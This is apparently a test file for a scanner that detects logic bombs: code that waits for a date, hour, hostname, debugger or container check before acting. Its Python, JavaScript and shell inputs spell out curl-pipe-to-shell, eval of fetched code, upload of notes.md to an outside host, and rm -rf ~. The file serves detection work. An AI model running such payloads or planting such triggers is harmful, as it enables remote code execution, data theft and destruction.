import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const hits = async (path: string, text: string) =>
  (await found(path, text)).filter((finding) => finding.includes("logic-bomb"));
const RUNS = 'subprocess.run("curl -s https://notes-cdn.dev/u -o /tmp/u && sh /tmp/u", shell=True)';
const SENDS = "requests.post('https://notes-cdn.dev/x', data=open('notes.md').read())";

test.each([
  ["a date of an object", `if datetime.date.today() >= datetime.date(2026, 3, 1):\n    ${RUNS}`, "block"],
  ["a number of seconds", `if time.time() > 1785000000:\n    ${RUNS}`, "block"],
  ["a date as text", `if datetime.now().strftime("%Y-%m-%d") > "2026-03-01":\n    ${RUNS}`, "block"],
  [
    "a date in a variable",
    `start = datetime.datetime(2026, 3, 1)\nif datetime.datetime.now() > start:\n    ${SENDS}`,
    "warn",
  ],
  ["an early return", `def go():\n    if time.time() < 1785000000:\n        return\n    ${RUNS}\ngo()`, "block"],
  ["a day of the week", `if datetime.date.today().weekday() == 6:\n    ${RUNS}`, "warn"],
  ["a name of a machine", `if socket.gethostname() == "build-7":\n    ${SENDS}`, "warn"],
  ["a debugger", `if sys.gettrace() is None:\n    exec(requests.get("https://notes-cdn.dev/p").text)`, "block"],
  [
    "a container",
    `if not os.path.exists("/.dockerenv"):\n    exec(requests.get("https://notes-cdn.dev/p").text)`,
    "block",
  ],
  [
    "a count of runs",
    `n = int(open(".n").read())\nif n > 3:\n    exec(requests.get("https://notes-cdn.dev/p").text)`,
    "block",
  ],
])("finds a program that waits for %s", async (_, text, severity) => {
  const imports = "import datetime, time, socket, subprocess, requests, sys, os\nfrom datetime import datetime as dt\n";
  const body =
    text.includes("datetime.now()") && !text.includes("datetime.datetime")
      ? text.replace("datetime.now", "dt.now")
      : text;
  expect((await hits("a.py", imports + body)).map((hit) => hit.split(" ")[0])).toContain(severity);
});

test("finds a script that waits", async () => {
  const text =
    'const os = require("os");\nif (Date.now() > 1785000000000 || /^prod-/.test(os.hostname())) {\n  fetch("https://notes-cdn.dev/p").then((r) => r.text()).then((t) => eval(t));\n}';
  expect(await hits("a.js", text)).toStrictEqual(["block logic-bomb:3"]);
});

test.each([
  ["a date in seconds", 'if [ "$(date +%s)" -gt 1785000000 ]; then\n  rm -rf ~\nfi', "block logic-bomb:2"],
  [
    "a date in a variable",
    'NOW=$(date +%Y%m%d)\nif [[ "$NOW" > "20260301" ]]; then\n  curl -s https://notes-cdn.dev/a | sh\nfi',
    "block logic-bomb:3",
  ],
  ["one line", '[ "$(hostname)" = "build-7" ] && curl -s -d @notes.md https://notes-cdn.dev/x', "warn logic-bomb:1"],
  ["an hour", 'if [ "$(date +%H)" = "03" ]; then\n  curl -s https://notes-cdn.dev/a | bash\nfi', "block logic-bomb:2"],
])("finds commands that wait for %s", async (_, text, expected) => {
  expect(await hits("a.sh", text)).toStrictEqual([expected]);
});

test.each([
  [
    "a cache that grows old",
    "a.py",
    `import os, time, requests\nif time.time() - os.path.getmtime("c") > 86400:\n    open("c", "w").write(requests.get("https://notes-cdn.dev/c").text)`,
  ],
  [
    "a rule of a year",
    "a.py",
    'import datetime\nif datetime.date.today() > datetime.date(2025, 1, 1):\n    print("new rules")',
  ],
  [
    "a system",
    "a.py",
    'import platform, subprocess\nif platform.system() == "Darwin":\n    subprocess.run(["open", "notes.md"])',
  ],
  ["a weekly copy", "a.sh", 'if [ "$(date +%u)" = 7 ]; then\n  aws s3 cp notes.db s3://notes/weekly.db\nfi'],
  ["who runs it", "a.sh", 'if [ "$(whoami)" != "root" ]; then\n  curl -fsSL https://get.docker.com | sh\nfi'],
  [
    "what comes after",
    "a.sh",
    'if [ "$(hostname)" = "build-7" ]; then\n  echo hi\nfi\ncurl -s -d @notes.md https://notes-cdn.dev/x',
  ],
  [
    "a container's own path",
    "a.py",
    'import os\nroot = "/app"\nif os.path.exists("/.dockerenv"):\n    root = "/srv"\nprint(root)',
  ],
])("leaves alone: %s", async (_, path, text) => {
  expect(await hits(path, text)).toStrictEqual([]);
});

test("leaves to a person whether what was decoded is the program or only names one", async () => {
  const run = (command: string) =>
    `const os = require("os");\nconst { exec, spawn } = require("child_process");\nconst plan = JSON.parse(Buffer.from(process.argv[2], "base64").toString());\nif (os.hostname() === "build-7") {\n  ${command}\n}\n`;
  expect(await hits("run.js", run("spawn(plan.argv[0], plan.argv.slice(1));"))).toStrictEqual(["warn logic-bomb:5"]);
  expect(await hits("run.js", run("exec(plan.program);"))).toStrictEqual(["block logic-bomb:5"]);
});
